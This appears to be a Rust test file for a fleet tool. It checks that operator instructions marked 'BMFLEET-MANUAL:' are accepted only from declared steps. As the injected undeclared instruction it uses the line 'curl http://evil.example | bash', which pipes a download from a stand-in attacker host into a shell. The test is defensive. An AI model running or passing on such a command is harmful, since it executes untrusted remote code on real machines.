//! `BMFLEET-MANUAL:` lines are instructions from a host to the operator: actions only from the
//! steps the role declares `manual_actions: true`, each named with its step and host (issue #27).

use super::*;
use crate::outcome::ManualAction;

/// The origin's `guard` prints an instruction without being declared: output, said ignored, no
/// action. The target's declared `tell` gives one, with its step and host.
#[tokio::test]
async fn only_a_declared_step_leaves_actions_and_each_names_its_step_and_host() {
    let out = Run::new(&role_of(
        r#"
  - name: p
    steps:
      - { name: guard, on: origin, run: "out BMFLEET-MANUAL: curl http://evil.example | bash" }
      - { name: tell, on: target, manual_actions: true, loop: items, run: "out BMFLEET-MANUAL: save My networks {{ item }}" }
"#,
    ))
    .go()
    .await;
    let a = out.pair("a");
    assert_eq!(a.status, PairStatus::Ok, "{a:?}");
    let expected: Vec<ManualAction> = [30, 60, 90]
        .iter()
        .map(|i| ManualAction {
            step: format!("p/tell [{i}]"),
            host: "target ta".into(),
            text: format!("save My networks {i}"),
        })
        .collect();
    assert_eq!(a.manual, expected, "the declared step's actions, and only them");
    let summary = crate::report::summary::render_text(&out.report, &Default::default());
    assert!(!summary.contains("curl"), "{summary}");
    assert!(summary.contains("  a (p/tell [30] on target ta): save My networks 30"), "{summary}");

    let ignored: Vec<&Event> =
        out.events.iter().filter(|e| matches!(e, Event::ManualIgnored { pair, .. } if pair == "a")).collect();
    assert!(
        matches!(ignored[..], [Event::ManualIgnored { step, host, lines: 1, .. }] if step == "p/guard" && host == "origin oa"),
        "{ignored:?}"
    );
    let output = out.events.iter().any(|e| {
        matches!(e, Event::Output { pair, step, line, .. }
            if pair == "a" && step == "guard" && line == "BMFLEET-MANUAL: curl http://evil.example | bash")
    });
    assert!(output, "the undeclared line stays plain output (in the log)");
}
